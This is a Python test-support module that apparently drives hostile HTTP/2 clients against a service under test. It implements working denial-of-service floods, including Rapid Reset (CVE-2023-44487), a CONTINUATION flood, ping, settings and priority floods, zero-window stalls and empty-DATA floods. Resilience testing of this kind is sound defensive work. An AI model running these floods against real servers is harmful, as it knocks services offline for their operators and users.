"""What a hostile client can do with HTTP/2."""

import struct
import time
from collections.abc import Callable, Iterable, Iterator
from itertools import cycle
from typing import Final, Self

from tests.support.hostile import Attack
from tests.support.hostile.target import Target, received
from tests.support.http2_frames import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    DEFAULT_WINDOW,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADER_TABLE_SIZE,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LARGEST_WINDOW,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Encoder,
    block,
    frame,
    request,
    setting,
    status,
)

# As many streams as Envoy lets one connection have (max_concurrent_streams).
STREAMS: Final = 100
_FRAMES: Final = 100  # that are sent at once, where a frame is all there is

Way = Callable[[Target, Attack], None]


class _Connection:
    """A connection that keeps to the protocol, as far as it goes."""

    def __init__(self, target: Target, *, window: int = LARGEST_WINDOW) -> None:
        self.encoder = Encoder()
        self.streams: set[int] = set()
        self._target = target
        self._socket = target.connect()
        self._unread = b""
        self._next_stream = 1
        settings = setting(HEADER_TABLE_SIZE, 0) + setting(INITIAL_WINDOW_SIZE, window)
        more = struct.pack(">I", LARGEST_WINDOW - DEFAULT_WINDOW)
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(WINDOW_UPDATE, 0, 0, more))

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def send(self, data: bytes) -> None:
        self._socket.sendall(data)

    def new_stream(self) -> int:
        stream, self._next_stream = self._next_stream, self._next_stream + 2
        return stream

    def receive(self, patience: float) -> None:
        """Read what is there, or comes within ``patience`` seconds."""
        data = received(self._socket, patience)
        if data is None:
            return
        data = self._unread + data
        at = 0
        while len(data) - at >= 9:
            end = at + 9 + int.from_bytes(data[at : at + 3])
            if end > len(data):
                break
            stream = int.from_bytes(data[at + 5 : at + 9])
            self._frame(data[at + 3], data[at + 4], stream, data[at + 9 : end])
            at = end
        self._unread = data[at:]

    def _frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            raise ConnectionResetError("the server sent GOAWAY")
        elif kind == HEADERS and stream in self.streams:
            self._target.statuses[str(status(payload))] += 1
        if kind == RST_STREAM or (kind in {DATA, HEADERS} and flags & END_STREAM):
            self.streams.discard(stream)


def _request_blocks(target: Target, attack: Attack, encoder: Encoder) -> Iterator[bytes]:
    """The header blocks of one connection's requests."""
    pseudo = (
        *((":method", "GET"), (":scheme", "https" if target.context else "http")),
        *((":authority", target.host), (":path", "/orders/1")),
    )
    given = {name for name, _ in (*attack.repeated, *attack.fresh[0]) if name.startswith(":")}
    repeated = [entry for entry in pseudo if entry[0] not in given] + list(attack.repeated)
    # Pseudo-headers come first (RFC 9113 §8.3).
    repeated.sort(key=lambda entry: not entry[0].startswith(":"))
    for fresh in cycle(attack.fresh):
        first = [entry for entry in fresh if entry[0].startswith(":")]
        rest = [entry for entry in fresh if not entry[0].startswith(":")]
        yield block(first) + encoder.indexed(repeated) + block(rest)


def _requests(target: Target, attack: Attack) -> None:
    """As many requests at once as a connection may have, at the attack's rate."""
    with _Connection(target) as connection:
        blocks = _request_blocks(target, attack, connection.encoder)
        for away in target.paced(attack.per_second):
            while len(connection.streams) >= STREAMS and target.goes_on:
                connection.receive(0.05)
            if not away:
                stream = connection.new_stream()
                connection.streams.add(stream)
                connection.send(request(stream, next(blocks)))
                target.sent += 1
            connection.receive(away)


def _resets(target: Target, attack: Attack) -> None:
    """Requests that are given up as soon as they are sent (CVE-2023-44487), ten at a time."""
    with _Connection(target) as connection:
        blocks = _request_blocks(target, attack, connection.encoder)
        for away in target.paced(attack.per_second):
            if not away:
                burst = b""
                for _ in range(10):
                    stream = connection.new_stream()
                    burst += request(stream, next(blocks))
                    burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                connection.send(burst)
                target.sent += 10
            connection.receive(away)


def _unread_answers(target: Target, attack: Attack) -> None:
    """Requests whose answers have no window to be sent in."""
    with _Connection(target, window=0) as connection:
        blocks = _request_blocks(target, attack, connection.encoder)
        for away in target.paced(attack.per_second):
            if not away and len(connection.streams) < STREAMS:
                stream = connection.new_stream()
                connection.streams.add(stream)
                connection.send(request(stream, next(blocks)))
                target.sent += 1
            connection.receive(away)
        for _ in range(100):  # a busy machine answers late
            if not target.statuses:
                connection.receive(0.1)


def _frames(
    burst: Callable[[_Connection, bytes], Iterable[bytes]], *, read: bool = True
) -> Callable[[Target, Attack], None]:
    """Frames without an end on a connection that has sent one request."""

    def flood(target: Target, attack: Attack) -> None:
        with _Connection(target) as connection:
            head = next(_request_blocks(target, attack, connection.encoder))
            frames = iter(burst(connection, head))
            for away in target.paced(attack.per_second):
                if not away:
                    connection.send(b"".join(next(frames) for _ in range(_FRAMES)))
                    target.sent += _FRAMES
                if read:
                    connection.receive(away)
                else:
                    time.sleep(away)

    return flood


def _continuations(connection: _Connection, head: bytes) -> Iterator[bytes]:
    """A head that does not end (CVE-2024-27919)."""
    stream = connection.new_stream()
    yield frame(HEADERS, END_STREAM, stream, head)
    while True:
        yield frame(CONTINUATION, 0, stream)


def _pings(_: _Connection, __: bytes) -> Iterator[bytes]:
    """Each asks for an answer (CVE-2019-9512)."""
    return cycle([frame(PING, 0, 0, bytes(8))])


def _settings(_: _Connection, __: bytes) -> Iterator[bytes]:
    """Each is acknowledged (CVE-2019-9515)."""
    return cycle([frame(SETTINGS, 0, 0)])


def _priorities(connection: _Connection, _: bytes) -> Iterator[bytes]:
    """CVE-2019-9513."""
    return cycle([frame(PRIORITY, 0, connection.new_stream(), struct.pack(">IB", 0, 15))])


def _window_updates(_: _Connection, __: bytes) -> Iterator[bytes]:
    # The connection's window is as large as it gets, but for what is sent meanwhile: of a stream.
    return cycle([frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))])


def _empty_data(connection: _Connection, head: bytes) -> Iterator[bytes]:
    """A body of nothing, without an end (CVE-2019-9518)."""
    stream = connection.new_stream()
    yield frame(HEADERS, END_HEADERS, stream, head)
    while True:
        yield frame(DATA, 0, stream)


WAYS: Final[dict[str, Way]] = {
    "requests": _requests,
    "resets": _resets,
    "unread answers": _unread_answers,
    "continuations": _frames(_continuations),
    "pings": _frames(_pings),
    "unread pings": _frames(_pings, read=False),
    "settings": _frames(_settings),
    "priorities": _frames(_priorities),
    "window updates": _frames(_window_updates),
    "empty data": _frames(_empty_data),
}
